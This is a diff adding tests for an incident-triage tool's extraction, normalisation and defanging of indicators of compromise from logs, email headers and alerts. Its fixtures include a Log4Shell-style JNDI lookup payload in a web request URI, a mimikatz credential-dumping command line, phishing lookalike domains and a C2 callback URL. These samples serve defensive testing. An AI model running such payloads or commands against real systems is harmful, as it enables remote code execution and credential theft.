@@ -1,0 +1,290 @@
+"""Observable extraction: structured fields by table, free text by ioc-finder, normalisation,
+deduplication with merged sightings, and display defanging."""
+
+import time
+from pathlib import Path
+
+import pytest
+
+from tests.conftest import case_artifacts, realdata_cases, requires_realdata
+from triage.models import Incident, Observable, Record
+from triage.observables import defang, extract_observables
+from triage.observables.freetext import TextScanner
+from triage.observables.normalise import normalise
+
+SYSMON = "Microsoft-Windows-Sysmon/Operational"
+
+
+def record(locator: str, *, source: str = "text", raw: str = "", **fields: object) -> Record:
+    return Record(
+        artifact_id="A1",
+        locator=locator,
+        source=source,
+        raw=raw or " ".join(f"{k}={v}" for k, v in fields.items()),
+        fields=fields,
+    )
+
+
+def incident(*records: Record) -> Incident:
+    return Incident(id="INC-test", input_digest="0" * 64, artifacts=(), records=records)
+
+
+def values(observables: tuple[Observable, ...], kind: str) -> list[str]:
+    return [o.value for o in observables if o.type == kind]
+
+
+def find(observables: tuple[Observable, ...], kind: str, value: str) -> Observable:
+    matches = [o for o in observables if o.type == kind and o.value == value]
+    assert len(matches) == 1, f"{kind} {value!r} not found once in {observables}"
+    return matches[0]
+
+
+def test_defanged_text_is_refanged_into_url_and_domain() -> None:
+    text = "Click hxxps://login-micros0ft[.]com/verify now, or mail admin[@]evil-corp[.]com."
+    found = extract_observables(incident(record("line:1", raw=text)))
+    assert "https://login-micros0ft.com/verify" in values(found, "url")
+    assert "login-micros0ft.com" in values(found, "domain")
+    assert "admin@evil-corp.com" in values(found, "email")
+    sighting = find(found, "url", "https://login-micros0ft.com/verify").sightings[0]
+    assert (sighting.artifact_id, sighting.locator, sighting.field) == ("A1", "line:1", None)
+
+
+def test_file_names_are_not_domains() -> None:
+    text = "procdump dumped lsass.exe; then powershell.exe ran C:\\tmp\\run.ps1 and report.py"
+    found = extract_observables(
+        incident(
+            record("line:1", raw=text),
+            record("record:2", source=SYSMON, Image="C:\\Windows\\System32\\lsass.exe"),
+        )
+    )
+    assert values(found, "domain") == []
+    assert values(found, "process") == ["C:\\Windows\\System32\\lsass.exe"]
+
+
+def test_file_extension_suffix_counts_as_domain_when_it_is_a_url_host() -> None:
+    found = extract_observables(
+        incident(record("line:1", raw="get http://invoice.zip/x and a.zip"))
+    )
+    assert values(found, "domain") == ["invoice.zip"]
+
+
+def test_sysmon_fields_yield_process_command_line_and_hashes() -> None:
+    event = record(
+        "record:7",
+        source=SYSMON,
+        EventID=1,
+        Computer="WS01.corp.local",
+        Image="C:\\Tools\\mimikatz.exe",
+        CommandLine='mimikatz.exe "sekurlsa::logonpasswords" exit',
+        ParentImage="C:\\Windows\\System32\\cmd.exe",
+        User="CORP\\alice",
+        Hashes="SHA1=D241DF7B9D2EC0B8194751CD5CE153E27CC40FA4,MD5=A3CB3B02A683275F7E0A0F8A9A5C9E07,"
+        "SHA256=31EB1DE7E840A342FD468E558E5AB627BCB4C542A8FE01AEC4D5BA01D539A0FC,"
+        "IMPHASH=00000000000000000000000000000000",
+    )
+    found = extract_observables(incident(event))
+    assert values(found, "process") == ["C:\\Tools\\mimikatz.exe", "C:\\Windows\\System32\\cmd.exe"]
+    assert values(found, "command_line") == ['mimikatz.exe "sekurlsa::logonpasswords" exit']
+    assert values(found, "sha256") == [
+        "31eb1de7e840a342fd468e558e5ab627bcb4c542a8fe01aec4d5ba01d539a0fc"
+    ]
+    assert values(found, "md5") == ["a3cb3b02a683275f7e0a0f8a9a5c9e07"]  # IMPHASH is not one
+    assert values(found, "user") == ["CORP\\alice"]
+    assert values(found, "host") == ["WS01.corp.local"]
+    assert find(found, "sha1", "d241df7b9d2ec0b8194751cd5ce153e27cc40fa4").sightings[0].field == (
+        "Hashes"
+    )
+
+
+def test_cloudtrail_yields_source_ip_and_user_arn() -> None:
+    event = record(
+        "line:1",
+        source="aws.cloudtrail",
+        eventName="GetObject",
+        sourceIPAddress="198.51.100.23",
+        **{
+            "userIdentity.arn": "arn:aws:iam::123456789012:user/pedro",
+            "userIdentity.userName": "pedro",
+        },
+    )
+    found = extract_observables(incident(event))
+    assert values(found, "ipv4") == ["198.51.100.23"]
+    assert values(found, "user") == ["arn:aws:iam::123456789012:user/pedro", "pedro"]
+
+
+def test_email_headers_yield_sender_and_relay_addresses() -> None:
+    def header(name: str, value: str, k: int = 1) -> Record:
+        return record(
+            f"header:{name}#{k}",
+            source="email.header",
+            raw=f"{name}: {value}",
+            name=name,
+            value=value,
+        )
+
+    found = extract_observables(
+        incident(
+            header("From", '"PayPal Support" <Service@Paypa1-Secure.com>'),
+            header("Reply-To", "collector@mail.example.net"),
+            header(
+                "Received",
+                "from mx.badhost.net (mx.badhost.net [203.0.113.9]) by mx.example.org",
+            ),
+            header("Message-ID", "<abc.123@evil.example.com>"),
+        )
+    )
+    assert values(found, "email") == ["service@paypa1-secure.com", "collector@mail.example.net"]
+    assert "203.0.113.9" in values(found, "ipv4")
+    assert "mx.badhost.net" in values(found, "domain")
+    assert find(found, "email", "service@paypa1-secure.com").sightings[0].locator == "header:From#1"
+    assert "evil.example.com" not in values(found, "domain")  # Message-ID is not mapped
+
+
+def test_sightings_merge_across_records_in_first_sighting_order() -> None:
+    records = [
+        record(f"record:{n}", source="Security", IpAddress="::ffff:10.1.2.3", TargetUserName=user)
+        for n, user in enumerate(["bob", "BOB", "alice"], start=1)
+    ]
+    found = extract_observables(incident(*records))
+    assert [(o.type, o.value) for o in found] == [
+        ("ipv4", "10.1.2.3"),
+        ("user", "bob"),
+        ("user", "alice"),
+    ]
+    assert [s.locator for s in find(found, "ipv4", "10.1.2.3").sightings] == [
+        "record:1",
+        "record:2",
+        "record:3",
+    ]
+    assert len(find(found, "user", "bob").sightings) == 2  # Windows names ignore case
+    assert extract_observables(incident(*records)) == found
+
+
+def test_caps_on_sightings_and_observables() -> None:
+    records = [
+        record(f"line:{n}", raw=f"beacon to 198.51.100.{n} and 203.0.113.1") for n in range(1, 9)
+    ]
+    found = extract_observables(incident(*records), max_observables=3, max_sightings=2)
+    assert [o.value for o in found] == ["198.51.100.1", "203.0.113.1", "198.51.100.2"]
+    assert all(len(o.sightings) <= 2 for o in found)
+
+
+def test_placeholders_loopback_and_version_numbers_are_dropped() -> None:
+    found = extract_observables(
+        incident(
+            record("record:1", source="Security", TargetUserName="-", IpAddress="-"),
+            record("record:2", source="Security", SubjectUserName="", IpAddress="127.0.0.1"),
+            record(
+                "line:3", raw="agent version=2.5.2.0 on build 10.0.19041.1 netmask 255.255.255.0"
+            ),
+            record("record:4", source="Security", SubjectUserName="SYSTEM", WorkstationName="N/A"),
+        )
+    )
+    assert [(o.type, o.value) for o in found] == [("user", "SYSTEM")]
+
+
+def test_request_paths_give_no_file_names_as_domains_but_keep_embedded_urls() -> None:
+    found = extract_observables(
+        incident(
+            record("line:1", source="web.access", client_ip="192.0.2.7", uri="/admin/login.do"),
+            record(
+                "line:2",
+                source="web.access",
+                uri="/?x=${jndi:ldap://198.51.100.4:1389/a}&next=http://evil.example.org/p",
+            ),
+            record("line:3", source="zeek.http", host="dl.example.net", uri="/payload.bin"),
+        )
+    )
+    assert values(found, "domain") == ["evil.example.org", "dl.example.net"]
+    assert "198.51.100.4" in values(found, "ipv4")
+    assert "http://dl.example.net/payload.bin" in values(found, "url")
+
+
+def test_identical_texts_are_scanned_once() -> None:
+    scanner = TextScanner()
+    text = "callback to http://c2.example.com/gate.php from 198.51.100.77"
+    first = scanner.scan(text)
+    assert scanner.scan(text) == first
+    assert scanner.scans == 1
+    assert scanner.scan("12345678") == () and scanner.scans == 1  # numeric: not worth a scan
+
+
+def test_defang_for_display() -> None:
+    assert defang("https://login-micros0ft.com/verify", "url") == (
+        "hxxps://login-micros0ft[.]com/verify"
+    )
+    assert defang("evil.example.com", "domain") == "evil[.]example[.]com"
+    assert defang("198.51.100.7", "ipv4") == "198[.]51[.]100[.]7"
+    assert defang("bob@evil.com", "email") == "bob[@]evil[.]com"
+    assert defang("C:\\Windows\\evil.exe", "process") == "C:\\Windows\\evil.exe"
+
+
+def test_public_suffix_lookup_needs_no_network(no_network: list[object]) -> None:
+    assert normalise("domain", "Login.Example.CO.UK.") == "login.example.co.uk"
+    assert normalise("domain", "mimikatz.exe") is None
+    assert no_network == []
+
+
+def _load(case: Path) -> Incident:
+    ingest = pytest.importorskip("triage.ingest")
+    try:
+        return ingest.load_incident(  # type: ignore[no-any-return]
+            [str(p) for p in case_artifacts(case)], ingest.Limits()
+        )
+    except ImportError as exc:  # loaders still being written
+        pytest.skip(f"loaders unavailable: {exc}")
+
+
+@requires_realdata
+@pytest.mark.parametrize("case", realdata_cases(), ids=lambda p: p.name)
+def test_realdata_observables_are_normalised_and_cite_their_records(case: Path) -> None:
+    loaded = _load(case)
+    started = time.perf_counter()
+    found = extract_observables(loaded)
+    assert time.perf_counter() - started < 10
+    assert found == extract_observables(loaded)
+    located = {(r.artifact_id, r.locator): r for r in loaded.records}
+    for observable in found:
+        assert normalise(observable.type, observable.value) == observable.value
+        assert not observable.value.lower().endswith((".exe", ".dll", ".ps1")) or (
+            observable.type not in {"domain", "email", "url"}
+        )
+        for sighting in observable.sightings:
+            source = located[(sighting.artifact_id, sighting.locator)]
+            assert sighting.field is None or sighting.field in source.fields
+
+
+def test_alert_evidence_fields_match_by_leaf_name() -> None:
+    evidence = record(
+        "json:/alerts/0/evidence/1",
+        source="alert.evidence",
+        **{
+            "fileDetails.fileName": "invoice.pdf.exe",
+            "fileDetails.sha256": "AB" * 32,
+            "processCommandLine": "invoice.pdf.exe /silent",
+            "userAccount.accountName": "alice",
+            "ipAddress": "203.0.113.50",
+            "url": "hxxp://cdn.evil[.]example.com/a",
+            "detectionStatus": "detected",
+        },
+    )
+    found = extract_observables(incident(evidence))
+    assert {(o.type, o.value) for o in found} >= {
+        ("file_path", "invoice.pdf.exe"),
+        ("sha256", "ab" * 32),
+        ("command_line", "invoice.pdf.exe /silent"),
+        ("user", "alice"),
+        ("ipv4", "203.0.113.50"),
+        ("url", "http://cdn.evil.example.com/a"),
+        ("domain", "cdn.evil.example.com"),
+    }
+    assert "invoice.pdf.exe" not in values(found, "domain")
+
+
+def test_import_hash_in_free_text_is_not_a_file_hash() -> None:
+    md5 = "a3cb3b02a683275f7e0a0f8a9a5c9e07"
+    imphash = "f5ae03de0ad60f5b17b82f2cd68402fe"
+    found = extract_observables(
+        incident(record("line:1", raw=f"Hashes: MD5={md5},IMPHASH={imphash}"))
+    )
+    assert values(found, "md5") == [md5]
